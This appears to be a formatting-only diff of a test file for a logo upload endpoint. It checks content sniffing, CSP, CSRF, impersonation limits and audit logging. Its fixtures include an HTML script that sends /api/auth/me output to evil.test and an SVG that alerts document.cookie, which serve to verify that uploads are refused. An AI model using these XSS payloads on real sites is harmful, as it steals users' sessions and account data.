@@ -34,7 +34,12 @@ const upload = (s: CookieSession, body: Buffer, type = 'image/png', path = logoP
   t
     .http()
     .put(path)
-    .set('cookie', Object.entries(s.cookies).map(([k, v]) => `${k}=${v}`).join('; '))
+    .set(
+      'cookie',
+      Object.entries(s.cookies)
+        .map(([k, v]) => `${k}=${v}`)
+        .join('; '),
+    )
     .set('x-xsrf-token', s.xsrf())
     .set('content-type', type)
     .send(body);
@@ -42,8 +47,12 @@ const stored = async () => (await t.db.query(`SELECT content, content_type, sha2
 const logoUrlInDb = async () => (await t.db.query(`SELECT logo_url FROM businesses WHERE id = $1`, [biz.id]))[0].logo_url as string | null;
 const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
 
-const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/api/auth/me").then(r=>r.text()).then(t=>location="https://evil.test/?"+t)</script></body></html>');
-const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>');
+const HTML = Buffer.from(
+  '<!doctype html><html><body><script>fetch("/api/auth/me").then(r=>r.text()).then(t=>location="https://evil.test/?"+t)</script></body></html>',
+);
+const SVG = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
+);
 
 describe('what counts as a logo (by content, never by name or type)', () => {
   it('accepts real PNG, JPEG, GIF and WebP images, and reads their size', () => {
@@ -61,7 +70,14 @@ describe('what counts as a logo (by content, never by name or type)', () => {
     ['a GIF with a script appended after its trailer', Buffer.concat([GIF_1X1, Buffer.from('/*<script>alert(1)</script>*/')])],
     ['a JPEG with HTML appended after its end', Buffer.concat([JPEG_16, HTML])],
     ['a truncated PNG', pngImage(8, 8).subarray(0, 60)],
-    ['a PNG with a damaged chunk', (() => { const b = Buffer.from(pngImage(8, 8)); b[40] = b[40]! ^ 0xff; return b; })()],
+    [
+      'a PNG with a damaged chunk',
+      (() => {
+        const b = Buffer.from(pngImage(8, 8));
+        b[40] = b[40]! ^ 0xff;
+        return b;
+      })(),
+    ],
     ['a PNG signature in front of HTML', Buffer.concat([pngImage(8, 8).subarray(0, 8), HTML])],
     ['a WebP whose RIFF size does not cover the file', Buffer.concat([WEBP_16, Buffer.from('<html>')])],
     ['an image too large in pixels', pngImage(LOGO_MAX_PIXELS + 1, 1)],
@@ -94,11 +110,15 @@ describe('uploading and serving', () => {
     expect((await staff.get('/api/auth/me').expect(200)).body.memberships[0].business.logoUrl).toBe(res.body.logoUrl);
     expect((await t.http().get(`/api/public/businesses/${biz.slug}`).expect(200)).body.logoUrl).toBe(res.body.logoUrl);
     // Served to anyone (the booking page has no sign-in), as exactly those bytes.
-    const served = await t.http().get(res.body.logoUrl).buffer(true).parse((r, cb) => {
-      const chunks: Buffer[] = [];
-      r.on('data', (c: Buffer) => chunks.push(c));
-      r.on('end', () => cb(null, Buffer.concat(chunks)));
-    });
+    const served = await t
+      .http()
+      .get(res.body.logoUrl)
+      .buffer(true)
+      .parse((r, cb) => {
+        const chunks: Buffer[] = [];
+        r.on('data', (c: Buffer) => chunks.push(c));
+        r.on('end', () => cb(null, Buffer.concat(chunks)));
+      });
     expect(served.status).toBe(200);
     expect(served.headers['content-type']).toBe('image/png');
     expect(served.headers['x-content-type-options']).toBe('nosniff');
@@ -108,13 +128,24 @@ describe('uploading and serving', () => {
     expect(Buffer.compare(served.body as Buffer, image)).toBe(0);
     expect((await t.http().get(res.body.logoUrl).set('if-none-match', served.headers.etag!)).status).toBe(304);
     // One audit row, under the owner, with what was stored.
-    const [row] = await t.db.query(`SELECT actor_id, changes, details FROM audit_events WHERE action = 'settings.branding.logo.upload' AND business_id = $1 ORDER BY id DESC LIMIT 1`, [biz.id]);
-    expect(row).toMatchObject({ actor_id: owner.userId, changes: { logoUrl: { before: null, after: res.body.logoUrl } }, details: { type: 'image/png', width: 64, height: 32, sha256: sha(image) } });
+    const [row] = await t.db.query(
+      `SELECT actor_id, changes, details FROM audit_events WHERE action = 'settings.branding.logo.upload' AND business_id = $1 ORDER BY id DESC LIMIT 1`,
+      [biz.id],
+    );
+    expect(row).toMatchObject({
+      actor_id: owner.userId,
+      changes: { logoUrl: { before: null, after: res.body.logoUrl } },
+      details: { type: 'image/png', width: 64, height: 32, sha256: sha(image) },
+    });
   });
 
   it('a replaced logo is gone from its old URL; JPEG, GIF and WebP are served with their own type', async () => {
     const first = (await upload(owner, pngImage(10, 10, [1, 2, 3])).expect(200)).body.logoUrl;
-    for (const [bytes, type] of [[JPEG_16, 'image/jpeg'], [GIF_1X1, 'image/gif'], [WEBP_16, 'image/webp']] as const) {
+    for (const [bytes, type] of [
+      [JPEG_16, 'image/jpeg'],
+      [GIF_1X1, 'image/gif'],
+      [WEBP_16, 'image/webp'],
+    ] as const) {
       // The declared type is ignored: the bytes decide.
       const url = (await upload(owner, bytes, 'application/octet-stream').expect(200)).body.logoUrl;
       const res = await t.http().get(url).expect(200);
@@ -168,7 +199,10 @@ describe('the attacks', () => {
     expect(res.body.code).toBe('logo_too_large');
     expect(await stored()).toBeNull();
     expect(await logoUrlInDb()).toBeNull();
-    const [{ n }] = await t.db.query(`SELECT count(*)::int AS n FROM audit_events WHERE action = 'settings.branding.logo.upload' AND business_id = $1 AND outcome = 'success' AND details->>'uploadedBytes' = $2`, [biz.id, String(big.length)]);
+    const [{ n }] = await t.db.query(
+      `SELECT count(*)::int AS n FROM audit_events WHERE action = 'settings.branding.logo.upload' AND business_id = $1 AND outcome = 'success' AND details->>'uploadedBytes' = $2`,
+      [biz.id, String(big.length)],
+    );
     expect(n).toBe(0);
   });
 
@@ -188,7 +222,9 @@ describe('the attacks', () => {
   });
 
   it('the database itself refuses an external logo URL (even written around the API)', async () => {
-    await expect(t.db.query(`UPDATE businesses SET logo_url = 'https://tracker.example.test/x.png' WHERE id = $1`, [biz.id])).rejects.toThrow(/businesses_logo_url_own|check/i);
+    await expect(t.db.query(`UPDATE businesses SET logo_url = 'https://tracker.example.test/x.png' WHERE id = $1`, [biz.id])).rejects.toThrow(
+      /businesses_logo_url_own|check/i,
+    );
   });
 
   it("another business's owner cannot overwrite or delete the logo; staff and the platform outside impersonation cannot either", async () => {
@@ -205,7 +241,12 @@ describe('the attacks', () => {
     expect(viaToken.status).toBe(403);
     expect(viaToken.body.code).toBe('forbidden');
     // Without the CSRF header a cookie upload is refused too.
-    const noCsrf = await t.http().put(logoPath()).set('cookie', `sid=${owner.cookies.sid}; XSRF-TOKEN=${owner.xsrf()}`).set('content-type', 'image/png').send(pngImage(4, 4));
+    const noCsrf = await t
+      .http()
+      .put(logoPath())
+      .set('cookie', `sid=${owner.cookies.sid}; XSRF-TOKEN=${owner.xsrf()}`)
+      .set('content-type', 'image/png')
+      .send(pngImage(4, 4));
     expect(noCsrf.body.code).toBe('csrf_invalid');
     expect(await stored()).toEqual(before);
     expect(await logoUrlInDb()).toBe(current);
@@ -218,7 +259,9 @@ describe('the attacks', () => {
       expect((await upload(op, pngImage(5, 5))).body.code).toBe('read_only_impersonation');
       expect((await op.delete(logoPath())).body.code).toBe('read_only_impersonation');
       expect(await logoUrlInDb()).toBe(current);
-      const denied = await t.db.query(`SELECT action, actor_id, outcome FROM audit_events WHERE impersonation_id = $1 AND outcome = 'denied' ORDER BY id`, [imp.id]);
+      const denied = await t.db.query(`SELECT action, actor_id, outcome FROM audit_events WHERE impersonation_id = $1 AND outcome = 'denied' ORDER BY id`, [
+        imp.id,
+      ]);
       expect(denied.map((r: { action: string }) => r.action)).toEqual(['settings.branding.logo.upload', 'settings.branding.logo.remove']);
       expect(denied.every((r: { actor_id: string }) => r.actor_id === op.userId)).toBe(true);
       const writer = (await op.post('/api/impersonation', { businessId: biz.id, role: 'owner' }).expect(201)).body.impersonation;
@@ -231,10 +274,13 @@ describe('the attacks', () => {
     }
   });
 
-  it("the CSP lets pages load images from our own origin only", async () => {
+  it('the CSP lets pages load images from our own origin only', async () => {
     for (const path of ['/api/health', '/api/auth/me', `/api/public/businesses/${biz.slug}`]) {
       const csp = String((await t.http().get(path)).headers['content-security-policy']);
-      const img = csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('img-src'));
+      const img = csp
+        .split(';')
+        .map((d) => d.trim())
+        .find((d) => d.startsWith('img-src'));
       expect(img, path).toBe("img-src 'self'");
     }
   });
